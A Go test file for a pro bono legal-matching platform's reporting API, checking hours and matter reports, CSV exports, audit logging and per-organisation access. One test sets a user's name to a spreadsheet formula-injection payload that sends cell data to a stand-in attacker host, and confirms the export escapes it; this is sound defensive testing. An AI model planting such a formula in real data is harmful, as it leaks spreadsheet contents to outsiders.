package api_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/probono-match/probono/internal/apptest"
	"github.com/probono-match/probono/internal/platform/config"
)

type hoursReport struct {
	From    string  `json:"from"`
	To      string  `json:"to"`
	FirmID  *string `json:"firm_id"`
	OrgID   *string `json:"org_id"`
	GroupBy string  `json:"group_by"`
	Items   []struct {
		Key     *string `json:"key"`
		Label   string  `json:"label"`
		Hours   float64 `json:"hours"`
		Entries int     `json:"entries"`
	} `json:"items"`
}

func getReport(t *testing.T, env *apptest.Env, s apptest.Session, pathAndQuery string, header http.Header) *apptest.Response {
	t.Helper()
	return env.Do(t, apptest.Request{Method: "GET", Path: "/api/v1/reports/" + pathAndQuery, Token: s.Token, Header: header})
}

func hoursBy(t *testing.T, env *apptest.Env, s apptest.Session, query string) hoursReport {
	t.Helper()
	r := getReport(t, env, s, "hours?"+query, nil)
	if r.Status != http.StatusOK {
		t.Fatalf("hours report %s: %d %s", query, r.Status, r.Body)
	}
	var rep hoursReport
	r.JSON(t, &rep)
	return rep
}

// reportCSV checks that r is a CSV attachment named as a report of name is, and returns its records
// without the header, which must be header.
func reportCSV(t *testing.T, r *apptest.Response, name string, header ...string) [][]string {
	t.Helper()
	if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV report: %d %s %s", r.Status, r.Header.Get("Content-Type"), r.Body)
	}
	if d := r.Header.Get("Content-Disposition"); !strings.HasPrefix(d, `attachment; filename="`+name+"-") || !strings.HasSuffix(d, `.csv"`) {
		t.Fatalf("Content-Disposition = %q", d)
	}
	body, ok := bytes.CutPrefix(r.Body, []byte("\ufeff"))
	if !ok || !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Fatalf("not a UTF-8 CSV file with CRLF records: %q", r.Body)
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(records) == 0 || strings.Join(records[0], ",") != strings.Join(header, ",") {
		t.Fatalf("CSV %q: %v", body, err)
	}
	return records[1:]
}

// loggedDay is a day from today on which Priya logs time, for the tests to add up.
type loggedDay struct {
	daysAgo, minutes int
	approve          bool
}

// priyasApprovedTime logs entries on a matter of Priya's accepted 40 days ago, submits them and has
// the coordinator approve those marked so; it returns the approved minutes and entries by month.
func priyasApprovedTime(t *testing.T, env *apptest.Env, days []loggedDay) (priya apptest.Session, byMonth map[string][2]int) {
	t.Helper()
	priya, matterID := priyasMatter(t, env, 40)
	coord := env.Login(t, coordinator, password)
	byMonth = map[string][2]int{}
	for _, d := range days {
		day := attorneyDay(-d.daysAgo)
		e := logTime(t, env, priya, matterID, day, d.minutes, true)
		if !d.approve {
			continue
		}
		if r := timeAction(t, env, coord, e.ID, "approve", nil); r.Status != http.StatusOK {
			t.Fatalf("approve: %d %s", r.Status, r.Body)
		}
		m := byMonth[day[:7]]
		byMonth[day[:7]] = [2]int{m[0] + d.minutes, m[1] + 1}
	}
	return priya, byMonth
}

func totals(byMonth map[string][2]int) (minutes, entries int) {
	for _, m := range byMonth {
		minutes, entries = minutes+m[0], entries+m[1]
	}
	return minutes, entries
}

func hoursOf(minutes int) float64 { return float64(minutes) / 60 }

// period is the query of the last 60 days, which holds every entry the tests log.
func period() string {
	return "from=" + attorneyDay(-60) + "&to=" + attorneyDay(0)
}

func TestReportHours_ApprovedEntriesAddUpByEveryGrouping(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	_, byMonth := priyasApprovedTime(t, env, []loggedDay{
		{1, 150, true}, {2, 90, true}, {3, 30, false}, {35, 60, true}, {36, 6, true},
	})
	minutes, entries := totals(byMonth)
	coord := env.Login(t, coordinator, password)
	staff := env.Login(t, nonprofitStaff, password)
	priyaID, northsideID := userID(t, env, priyaEmail), orgOf(t, env, staff)

	for _, c := range []struct{ groupBy, key string }{
		{"attorney", priyaID}, {"practice_area", "housing.private_landlord_tenant"}, {"referrer", northsideID},
	} {
		rep := hoursBy(t, env, coord, "group_by="+c.groupBy+"&"+period())
		if rep.GroupBy != c.groupBy || len(rep.Items) != 1 || rep.Items[0].Key == nil || *rep.Items[0].Key != c.key ||
			rep.Items[0].Hours != hoursOf(minutes) || rep.Items[0].Entries != entries {
			t.Fatalf("by %s: want %s with %.1f h in %d entries, got %+v", c.groupBy, c.key, hoursOf(minutes), entries, rep)
		}
	}
	attorneys := hoursBy(t, env, coord, "group_by=attorney&"+period())
	if attorneys.Items[0].Label != "Priya Raman" || attorneys.FirmID == nil || *attorneys.FirmID != orgOf(t, env, coord) {
		t.Fatalf("attorney report names %q for firm %v", attorneys.Items[0].Label, attorneys.FirmID)
	}

	// By month: every month of the period, each with its own approved entries.
	months := hoursBy(t, env, coord, "group_by=month&"+period())
	if months.From != attorneyDay(-60)[:8]+"01" || months.To[:7] != attorneyDay(0)[:7] {
		t.Fatalf("the period is whole months: %s to %s", months.From, months.To)
	}
	seen := 0
	for _, m := range months.Items {
		want := byMonth[*m.Key]
		if m.Hours != hoursOf(want[0]) || m.Entries != want[1] {
			t.Fatalf("month %s: want %.1f h in %d entries, got %+v", *m.Key, hoursOf(want[0]), want[1], m)
		}
		seen += m.Entries
	}
	if seen != entries || len(months.Items) < 2 {
		t.Fatalf("months hold %d of %d entries: %+v", seen, entries, months.Items)
	}

	// By partnership: a month's hours count toward the partnership in force that month; the months
	// before it started hold hours outside any partnership.
	body := partnershipBody(orgOf(t, env, coord), northsideID)
	body["starts_on"], body["ends_on"] = attorneyDay(-10), attorneyDay(30)
	pledge := createPartnership(t, env, env.Login(t, "admin@hartwell.example", password), body)
	var inForce, before int
	for month, m := range byMonth {
		if month >= attorneyDay(-10)[:7] {
			inForce += m[0]
		} else {
			before += m[0]
		}
	}
	got := hoursBy(t, env, coord, "group_by=partnership&"+period())
	want := map[string]float64{pledge.ID: hoursOf(inForce), "": hoursOf(before)}
	for _, it := range got.Items {
		key := ""
		if it.Key != nil {
			key = *it.Key
			if !strings.Contains(it.Label, "Northside") {
				t.Fatalf("partnership label %q", it.Label)
			}
		}
		if w, ok := want[key]; !ok || it.Hours != w {
			t.Fatalf("partnership %q: %.1f h, want %+v", key, it.Hours, want)
		}
		delete(want, key)
	}
	if len(want) != 0 {
		t.Fatalf("partnerships missing from %+v: %v", got.Items, want)
	}

	// The referring organisation sees the hours given to its referrals, and only those.
	if rep := hoursBy(t, env, staff, "group_by=attorney&"+period()); len(rep.Items) != 1 || rep.Items[0].Hours != hoursOf(minutes) ||
		rep.OrgID == nil || *rep.OrgID != northsideID {
		t.Fatalf("Northside's report: %+v", rep)
	}
}

func TestReportHours_CSVEscapesAHostileNameAndEachExportIsAudited(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	priya, byMonth := priyasApprovedTime(t, env, []loggedDay{{1, 90, true}, {2, 36, true}})
	minutes, entries := totals(byMonth)
	hostile := `=HYPERLINK("http://evil.example/?leak="&A1,"Priya")`
	if r := env.Do(t, apptest.Request{Method: "PATCH", Path: "/api/v1/me", Token: priya.Token, Body: map[string]string{"name": hostile}}); r.Status != http.StatusOK {
		t.Fatalf("rename: %d %s", r.Status, r.Body)
	}
	coord := env.Login(t, coordinator, password)
	audited := func() int {
		return queryInt(t, sqlDB(t, env), `SELECT count(*) FROM audit_log WHERE action = 'report.exported' AND object_id = 'hours'`)
	}
	before := audited()
	for _, how := range []struct {
		query  string
		header http.Header
	}{
		{"group_by=attorney&format=csv&" + period(), nil},
		{"group_by=attorney&" + period(), http.Header{"Accept": {"application/json;q=0.5, text/csv"}}},
	} {
		rows := reportCSV(t, getReport(t, env, coord, "hours?"+how.query, how.header), "hours-by-attorney", "key", "label", "hours", "entries")
		want := []string{userID(t, env, priyaEmail), "'" + hostile, strconv.FormatFloat(hoursOf(minutes), 'f', 1, 64), strconv.Itoa(entries)}
		if len(rows) != 1 || strings.Join(rows[0], "|") != strings.Join(want, "|") {
			t.Fatalf("CSV rows %q, want %q", rows, want)
		}
	}
	// JSON is the report as it is, for the SPA to show as text.
	if rep := hoursBy(t, env, coord, "group_by=attorney&"+period()); rep.Items[0].Label != hostile {
		t.Fatalf("JSON label %q", rep.Items[0].Label)
	}
	if after := audited(); after != before+2 {
		t.Fatalf("%d exports audited, want 2", after-before)
	}
}

func TestReports_EachOrganisationSeesItsOwnAndNamingAnotherIs404(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	_, byMonth := priyasApprovedTime(t, env, []loggedDay{{1, 60, true}})
	minutes, _ := totals(byMonth)
	coord, staff := env.Login(t, coordinator, password), env.Login(t, nonprofitStaff, password)
	hartwellID, northsideID := orgOf(t, env, coord), orgOf(t, env, staff)
	castellan := env.Login(t, castellanCoordinator, password)
	riverbend := env.Login(t, "staff@riverbend.example", password)
	admin := env.Login(t, platformAdmin, password)

	for _, report := range []string{"hours", "matters", "time-to-match", "unmet-need"} {
		// Another firm, and another referrer, naming Hartwell's or Northside's figures: not found.
		getReport(t, env, castellan, report+"?firm_id="+hartwellID, nil).Problem(t, http.StatusNotFound)
		getReport(t, env, riverbend, report+"?org_id="+northsideID, nil).Problem(t, http.StatusNotFound)
		// Attorneys have no reports, their own firm's neither.
		getReport(t, env, env.Login(t, priyaEmail, password), report, nil).Problem(t, http.StatusForbidden)
		getReport(t, env, env.Login(t, "wei.zhang@castellan.example", password), report+"?format=csv", nil).Problem(t, http.StatusForbidden)
	}
	// Castellan's own report and Riverbend's hold none of Priya's hours.
	for _, s := range []apptest.Session{castellan, riverbend} {
		if rep := hoursBy(t, env, s, "group_by=attorney&"+period()); len(rep.Items) != 0 {
			t.Fatalf("another organisation's report shows %+v", rep.Items)
		}
	}
	// Northside narrowing to Castellan sees nothing; the platform admin sees Hartwell's on asking.
	if rep := hoursBy(t, env, staff, "group_by=attorney&firm_id="+orgOf(t, env, castellan)+"&"+period()); len(rep.Items) != 0 {
		t.Fatalf("Northside's hours from Castellan: %+v", rep.Items)
	}
	rep := hoursBy(t, env, admin, "group_by=attorney&firm_id="+hartwellID+"&"+period())
	if len(rep.Items) != 1 || rep.Items[0].Hours != hoursOf(minutes) {
		t.Fatalf("the platform admin's report of Hartwell: %+v", rep)
	}
}

type monthlyReport struct {
	Items []map[string]any `json:"items"`
}

// thisMonth returns the current month's item of a monthly report, as the coordinator reads it.
func thisMonth(t *testing.T, env *apptest.Env, s apptest.Session, report string) map[string]any {
	t.Helper()
	r := getReport(t, env, s, report+"?"+period(), nil)
	var rep monthlyReport
	r.JSON(t, &rep)
	if r.Status != http.StatusOK || len(rep.Items) < 2 {
		t.Fatalf("%s: %d %s", report, r.Status, r.Body)
	}
	last := rep.Items[len(rep.Items)-1]
	if last["month"] != time.Now().UTC().Format("2006-01") {
		t.Fatalf("%s: the last month is %v", report, last["month"])
	}
	return last
}

func num(t *testing.T, v any) float64 {
	t.Helper()
	f, ok := v.(float64)
	if !ok {
		t.Fatalf("%v is not a number", v)
	}
	return f
}

// percentile is PostgreSQL's percentile_cont over sorted values.
func percentile(sorted []float64, p float64) float64 {
	pos := p * float64(len(sorted)-1)
	lo := int(pos)
	if lo+1 >= len(sorted) {
		return sorted[lo]
	}
	return sorted[lo] + (pos-float64(lo))*(sorted[lo+1]-sorted[lo])
}

func TestReportMattersAndTimeToMatch_CountWhatAttorneysAcceptedAndWithdrew(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord, staff := env.Login(t, coordinator, password), env.Login(t, nonprofitStaff, password)
	james := env.Login(t, jamesEmail, password)
	mattersBefore, matchBefore := thisMonth(t, env, coord, "matters"), thisMonth(t, env, coord, "time-to-match")

	_, priyasMatterID := priyasOfferAndMatter(t, env) // two referrals offered, one accepted
	withdrawn := createReferral(t, env, staff, offerableBody())
	offers := routeOffers(t, env, coord, withdrawn.ID, userID(t, env, jamesEmail))
	var jamesMatter matterView
	acceptOffer(t, env, james, offers[0].ID).JSON(t, &jamesMatter)
	if r := env.Do(t, apptest.Request{Method: "POST", Path: "/api/v1/matters/" + jamesMatter.ID + "/withdraw", Token: james.Token,
		Body: map[string]string{"reason": "no_capacity"}}); r.Status != http.StatusOK {
		t.Fatalf("withdraw: %d %s", r.Status, r.Body)
	}

	matters := thisMonth(t, env, coord, "matters")
	for field, added := range map[string]float64{"opened": 2, "closed": 0, "withdrawn": 1} {
		if got := num(t, matters[field]) - num(t, mattersBefore[field]); got != added {
			t.Fatalf("%s: %v more this month, want %v (%v, before %v)", field, got, added, matters, mattersBefore)
		}
	}

	match := thisMonth(t, env, coord, "time-to-match")
	for field, added := range map[string]float64{"referrals": 3, "offered": 3, "accepted": 2} {
		if got := num(t, match[field]) - num(t, matchBefore[field]); got != added {
			t.Fatalf("%s: %v more this month, want %v (%v)", field, got, added, match)
		}
	}
	if num(t, matchBefore["accepted"]) == 0 {
		// The acceptances are the test's only ones: their waits are what the API shows.
		var waits []float64
		for _, id := range []string{priyasMatterID, jamesMatter.ID} {
			var m struct {
				StartedAt time.Time `json:"started_at"`
				Referral  struct{ ID string }
			}
			env.Do(t, apptest.Request{Method: "GET", Path: "/api/v1/matters/" + id, Token: coord.Token}).JSON(t, &m)
			waits = append(waits, m.StartedAt.Sub(submittedAt(t, env, staff, m.Referral.ID)).Hours())
		}
		if waits[0] > waits[1] {
			waits[0], waits[1] = waits[1], waits[0]
		}
		for field, p := range map[string]float64{"acceptance_median_hours": 0.5, "acceptance_p90_hours": 0.9} {
			if want := strconv.FormatFloat(percentile(waits, p), 'f', 1, 64); strconv.FormatFloat(num(t, match[field]), 'f', 1, 64) != want {
				t.Fatalf("%s = %v, want %s", field, match[field], want)
			}
		}
	}
	if num(t, match["first_offer_median_hours"]) > num(t, match["acceptance_median_hours"]) ||
		num(t, match["first_offer_p90_hours"]) < num(t, match["first_offer_median_hours"]) {
		t.Fatalf("waits out of order: %v", match)
	}
	rows := reportCSV(t, getReport(t, env, coord, "time-to-match?format=csv&"+period(), nil), "time-to-match",
		"month", "referrals", "offered", "accepted", "first_offer_median_hours", "first_offer_p90_hours", "acceptance_median_hours", "acceptance_p90_hours")
	if last := rows[len(rows)-1]; last[0] != match["month"] || last[3] != strconv.Itoa(int(num(t, match["accepted"]))) {
		t.Fatalf("CSV %q against JSON %v", last, match)
	}
	rows = reportCSV(t, getReport(t, env, coord, "matters?"+period(), http.Header{"Accept": {"text/csv"}}), "matters", "month", "opened", "closed", "withdrawn")
	if last := rows[len(rows)-1]; last[1] != strconv.Itoa(int(num(t, matters["opened"]))) {
		t.Fatalf("CSV %q against JSON %v", last, matters)
	}
}

type unmetNeed struct {
	Items []struct {
		PracticeArea     string `json:"practice_area"`
		PracticeAreaName string `json:"practice_area_name"`
		Jurisdiction     string `json:"jurisdiction"`
		JurisdictionName string `json:"jurisdiction_name"`
		Referrals        int    `json:"referrals"`
		Offered          int    `json:"offered"`
	} `json:"items"`
}

func unmetHousingIL(t *testing.T, env *apptest.Env, s apptest.Session) (referrals, offered int) {
	t.Helper()
	var rep unmetNeed
	r := getReport(t, env, s, "unmet-need?"+period(), nil)
	if r.Status != http.StatusOK {
		t.Fatalf("unmet need: %d %s", r.Status, r.Body)
	}
	r.JSON(t, &rep)
	for _, it := range rep.Items {
		if it.PracticeArea == "housing.private_landlord_tenant" && it.Jurisdiction == "IL" {
			if it.JurisdictionName != "Illinois" || it.PracticeAreaName == "" {
				t.Fatalf("names: %+v", it)
			}
			return it.Referrals, it.Offered
		}
	}
	return 0, 0
}

func TestReportUnmetNeed_CountsReferralsNobodyTook(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord, staff := env.Login(t, coordinator, password), env.Login(t, nonprofitStaff, password)
	firmBefore, firmOfferedBefore := unmetHousingIL(t, env, coord)
	ownBefore, ownOfferedBefore := unmetHousingIL(t, env, staff)

	// Declined by James, then withdrawn; and withdrawn without an offer; and one still waiting.
	declined := createReferral(t, env, staff, offerableBody())
	offer := routeOffers(t, env, coord, declined.ID, userID(t, env, jamesEmail))[0]
	if r := env.Do(t, apptest.Request{Method: "POST", Path: "/api/v1/offers/" + offer.ID + "/decline", Token: env.Login(t, jamesEmail, password).Token,
		Body: map[string]string{"reason": "no_capacity"}}); r.Status != http.StatusOK {
		t.Fatalf("decline: %d %s", r.Status, r.Body)
	}
	unoffered := createReferral(t, env, staff, offerableBody())
	createReferral(t, env, staff, offerableBody())
	for _, id := range []string{declined.ID, unoffered.ID} {
		if r := transition(t, env, staff, id, map[string]string{"to": "withdrawn"}); r.Status != http.StatusOK {
			t.Fatalf("withdraw: %d %s", r.Status, r.Body)
		}
	}

	if n, offered := unmetHousingIL(t, env, coord); n-firmBefore != 1 || offered-firmOfferedBefore != 1 {
		t.Fatalf("the firm sees %d more, %d offered; want the one offered to its attorney", n-firmBefore, offered-firmOfferedBefore)
	}
	if n, offered := unmetHousingIL(t, env, staff); n-ownBefore != 2 || offered-ownOfferedBefore != 1 {
		t.Fatalf("Northside sees %d more, %d offered; want 2, 1", n-ownBefore, offered-ownOfferedBefore)
	}
	if n, _ := unmetHousingIL(t, env, env.Login(t, castellanCoordinator, password)); n != 0 {
		t.Fatalf("Castellan was offered none of them but sees %d", n)
	}
}

func TestReports_ATimeoutAnswers503AndTheReportRunsAgainAfter(t *testing.T) {
	t.Parallel()
	env := apptest.New(t, apptest.Configure(func(c *config.Config) { c.ReportTimeout = 300 * time.Millisecond }))
	coord := env.Login(t, coordinator, password)
	// A migration holding the roll-up makes the report wait longer than its timeout.
	lock, err := sqlDB(t, env).Begin()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := lock.Exec(`LOCK TABLE hours_monthly IN ACCESS EXCLUSIVE MODE`); err != nil {
		t.Fatal(err)
	}
	for _, query := range []string{"group_by=attorney", "group_by=month&format=csv"} {
		r := getReport(t, env, coord, "hours?"+query, nil)
		p := r.Problem(t, http.StatusServiceUnavailable)
		if !strings.HasSuffix(p.Type, "/report-timeout") || r.Header.Get("Retry-After") == "" || r.Header.Get("Content-Disposition") != "" {
			t.Fatalf("timeout: %+v %v", p, r.Header)
		}
	}
	if err := lock.Rollback(); err != nil {
		t.Fatal(err)
	}
	hoursBy(t, env, coord, "group_by=attorney")
}

func TestReports_ParallelExportsEachAnswerTheSameFileAndEachIsAudited(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	priyasApprovedTime(t, env, []loggedDay{{1, 120, true}, {2, 42, true}})
	coord := env.Login(t, coordinator, password)
	before := queryInt(t, sqlDB(t, env), `SELECT count(*) FROM audit_log WHERE action = 'report.exported'`)
	const parallel = 8
	bodies := make([]string, parallel)
	var wg sync.WaitGroup
	for i := range parallel {
		wg.Add(1)
		go func() {
			defer wg.Done()
			report := []string{"hours?group_by=attorney&", "matters?", "time-to-match?", "unmet-need?"}[i%4]
			r := getReport(t, env, coord, report+"format=csv&"+period(), nil)
			if r.Status != http.StatusOK {
				t.Errorf("export %d: %d %s", i, r.Status, r.Body)
			}
			bodies[i] = string(r.Body)
		}()
	}
	wg.Wait()
	for i := 4; i < parallel; i++ {
		if bodies[i] != bodies[i-4] {
			t.Fatalf("the same export answered differently:\n%q\n%q", bodies[i-4], bodies[i])
		}
	}
	if n := queryInt(t, sqlDB(t, env), `SELECT count(*) FROM audit_log WHERE action = 'report.exported'`); n != before+parallel {
		t.Fatalf("%d exports audited, want %d", n-before, parallel)
	}
	var verified struct {
		OK bool `json:"ok"`
	}
	env.Do(t, apptest.Request{Method: "GET", Path: "/api/v1/audit/verify", Token: env.Login(t, platformAdmin, password).Token}).JSON(t, &verified)
	if !verified.OK {
		t.Fatal("the audit chain does not verify after parallel exports")
	}
}
